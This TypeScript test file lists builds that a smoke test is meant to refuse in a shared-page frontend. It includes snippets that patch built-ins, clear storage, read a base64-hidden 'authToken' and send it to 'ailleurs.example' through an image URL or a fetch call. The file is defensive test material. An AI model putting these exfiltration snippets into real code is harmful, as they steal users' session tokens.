import type { BadBuild } from '../gate-case.ts'

const atLoad = (name: string, what: string, code: string, because: RegExp): BadBuild => ({
  name,
  what,
  refusedBy: 'smoke test',
  because,
  edit: (section) => section.runAtLoad(code)
})

/** What the section does to the page that it shares with all others. */
export const confinementFaults: BadBuild[] = [
  atLoad(
    'patched-fetch',
    'replaces fetch and XMLHttpRequest.send',
    `const { fetch } = window
     window.fetch = (...request) => fetch(...request)
     const { send } = XMLHttpRequest.prototype
     XMLHttpRequest.prototype.send = function (body) { send.call(this, body) }`,
    /built-ins: it replaces/
  ),
  atLoad(
    'patched-array',
    'replaces Array.prototype.map',
    `const { map } = Array.prototype
     Object.assign(Array.prototype, { map(this: unknown[], ...given: Parameters<typeof map>) { return map.apply(this, given) } })`,
    /built-ins: it replaces/
  ),
  atLoad(
    'patched-history',
    'replaces history.pushState',
    'const { pushState } = history; history.pushState = (...given) => pushState.apply(history, given)',
    /built-ins: it (replaces|adds)/
  ),
  atLoad('storage-cleared', 'localStorage.clear()', 'localStorage.clear()', /storage: it removes/),
  atLoad(
    'token-read',
    'reads the session’s token, whose name it conceals',
    "localStorage.getItem(atob('YXV0aFRva2Vu'))",
    /storage: it reads « authToken »/
  ),
  atLoad(
    'token-by-image',
    'sends the token as the address of an image',
    "const token = localStorage[atob('YXV0aFRva2Vu')]; setTimeout(() => { new Image().src = 'https://ailleurs.example/p.png?' + token }, 1000)",
    /img-src|Content Security Policy|ailleurs\.example/
  ),
  atLoad(
    'token-by-fetch',
    'sends the token by fetch to another site',
    "setTimeout(() => fetch('https://ailleurs.example/?' + localStorage[atob('YXV0aFRva2Vu')]).catch(() => {}), 500)",
    /connect-src|Content Security Policy|ailleurs\.example/
  ),
  atLoad(
    'inline-script',
    'adds an inline script',
    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ventesInline = 1' }))",
    /script-src|Content Security Policy|Trusted/
  ),
  {
    name: 'bar-over-header',
    what: 'a fixed bar over the header',
    refusedBy: 'smoke test',
    because: /covered|hidden/,
    async edit(section) {
      await section.write(
        'src/list/change.module.css',
        '.bar { position: fixed; inset: 0 0 auto; height: 90px; z-index: 9999; background: #fff; color: #000 }'
      )
      await section.show(
        "import css from './change.module.css'\nexport const Change = () => <p className={css.bar}>Promotion</p>"
      )
    }
  }
]
